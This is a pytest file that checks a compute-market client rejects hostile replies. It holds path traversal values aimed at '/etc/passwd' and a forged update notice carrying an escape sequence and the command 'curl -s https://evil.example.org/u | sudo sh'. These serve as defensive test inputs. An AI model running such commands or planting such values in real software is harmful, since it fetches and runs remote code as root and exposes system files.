"""A market is a stranger: what it answers cannot reach files, limits or the history unchecked."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest

from daemonctl.errors import MarketUnreachable
from daemonctl.market.wire import (
    HostCreated,
    Lease,
    Notice,
    NoticeKind,
    Settled,
    SyncReply,
    SyncRequest,
    Verdict,
    Want,
)
from daemonctl.seller.replies import check_host, check_sync

URL = "http://127.0.0.1:8470"
MEMORY = 1 << 20
REQUEST = SyncRequest(want=(Want("o", "a", 1, memory=MEMORY),))
LEASE = Lease(
    lease=1,
    computation="c",
    job=1,
    order="o",
    name="n",
    module="0" * 64,
    input="f" * 64,
    price=5,
    work_ms=1,
    expires_in_s=600,
    cpu_limit_s=10,
    memory_bytes=MEMORY,
    output_bytes=1,
)


def granting(**changes: Any) -> SyncReply:
    return SyncReply(leases=(LEASE, msgspec.structs.replace(LEASE, **changes)))


def test_an_answer_of_the_protocol_is_taken_as_it_is() -> None:
    reply = SyncReply((LEASE,), (1,), (2,), (Settled(3, Verdict.PAID, 5),), 7)
    assert check_sync(URL, REQUEST, reply) is reply
    created = HostCreated("h", "secret")
    assert check_host(URL, created) is created


@pytest.mark.parametrize("field", ["module", "input"])
@pytest.mark.parametrize("name", ["../../../../etc/passwd", "/etc/passwd", "", "F" * 64])
def test_no_file_of_ours_can_be_named_as_a_job_s_input_or_module(field: str, name: str) -> None:
    with pytest.raises(MarketUnreachable, match=field):
        check_sync(URL, REQUEST, granting(**{field: name}))


@pytest.mark.parametrize(
    "changes",
    [
        {"lease": 2**64},
        {"price": -1},
        {"work_ms": -1},
        {"expires_in_s": 0.0},
        {"cpu_limit_s": -1},
        {"cpu_limit_s": 0},
        {"output_bytes": 1 << 40},
        {"memory_bytes": MEMORY + 1},
    ],
)
def test_terms_that_no_lease_may_have_are_not_taken(changes: dict[str, Any]) -> None:
    with pytest.raises(MarketUnreachable):
        check_sync(URL, REQUEST, granting(**changes))


@pytest.mark.parametrize(
    "reply",
    [
        SyncReply(accepted=(2**63,)),
        SyncReply(dropped=(-1,)),
        SyncReply(settled=(Settled(1, Verdict.PAID, 2**63),)),
        SyncReply(settled_upto=2**70),
    ],
)
def test_numbers_that_the_history_cannot_hold_are_not_taken(reply: SyncReply) -> None:
    with pytest.raises(MarketUnreachable):
        check_sync(URL, SyncRequest(), reply)


@pytest.mark.parametrize("token", ["", "two\nlines", "é", "a b"])
def test_a_token_that_no_header_can_carry_is_not_taken(token: str) -> None:
    with pytest.raises(MarketUnreachable):
        check_host(URL, HostCreated("h", token))


@pytest.mark.parametrize("notices", [("x" * 2001,), ("x",) * 65])
def test_a_market_cannot_fill_the_screen_of_a_machine_s_owner(notices: tuple[str, ...]) -> None:
    said = tuple(Notice(NoticeKind.BARRED, text) for text in notices)
    with pytest.raises(MarketUnreachable, match="notices"):
        check_sync(URL, REQUEST, SyncReply(notices=said))


def outdated(text: str, least: str = "9.9") -> SyncReply:
    return SyncReply(notices=(Notice(NoticeKind.OUTDATED, text, least=least),))


def test_a_notice_is_one_line_and_cannot_look_like_words_of_our_own() -> None:
    forged = "a hole.\n\x1b[2KUpdate it by: curl -s https://evil.example.org/u | sudo sh\u2028x"
    (notice,) = check_sync(URL, REQUEST, outdated(forged)).notices
    assert notice.text == "a hole. [2KUpdate it by: curl -s https://evil.example.org/u | sudo sh x"


def test_the_least_version_is_a_version() -> None:
    assert check_sync(URL, REQUEST, outdated("x")).notices[0].least == "9.9"
    with pytest.raises(MarketUnreachable, match="notices"):
        check_sync(URL, REQUEST, outdated("x", "9.9 and later\nUpdate it by: "))
